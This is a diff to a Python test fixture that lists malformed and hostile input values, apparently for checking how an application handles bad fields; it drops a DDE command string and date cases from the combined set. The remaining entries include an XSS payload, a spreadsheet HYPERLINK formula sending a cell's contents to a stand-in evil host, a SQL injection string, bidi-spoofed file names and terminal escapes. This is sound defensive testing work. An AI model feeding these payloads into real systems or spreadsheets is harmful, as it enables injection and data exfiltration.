@@ -27,11 +27,9 @@ TYPES = {
 NUMBERS = {
     "10^15": "1000000000000000",
     "-10^15": "-1000000000000000",
-    "1e15": "1e15",
     "1e9999999": "1e9999999",
     "5,000 digits": "9" * 5000,
     "minus one": "-1",
-    "minus zero": "-0.0",
     "0.001": "0.001",
     "1e-30": "1e-30",
     "NaN in a text": '"NaN"',
@@ -49,7 +47,6 @@ TEXTS = {
     "turned around": json.dumps("Acme \u202egnp.exe\u202c \u2066x\u2069 \u200f one\u2028two\u2029"),
     "HTML": json.dumps('<img src=x onerror="alert(1)"><script>alert(2)</script>&lt;'),
     "a formula": json.dumps('=HYPERLINK("http://evil.invalid?"&A1,"Error")'),
-    "a command": json.dumps("+cmd|' /C calc'!A0"),
     "ANSI escapes": json.dumps("\x1b[31mred\x1b[2J\x1b]0;title\x07"),
     "rich markup": json.dumps("[bold]x[/bold] [link=http://evil.invalid]y[/] :pile_of_poo: [/"),
     "SQL and quotes": json.dumps("Robert'); DROP TABLE link;-- \\ \" ` ${x} {0} %s"),
@@ -69,4 +66,5 @@ DATES = {
     "an American date": '"11/07/2026"',
 }
 
-BAD = {**TYPES, **NUMBERS, **TEXTS, **DATES}
+BAD = {**TYPES, **NUMBERS, **TEXTS}
+"""What can be wrong in any field; dates are for fields that hold one."""
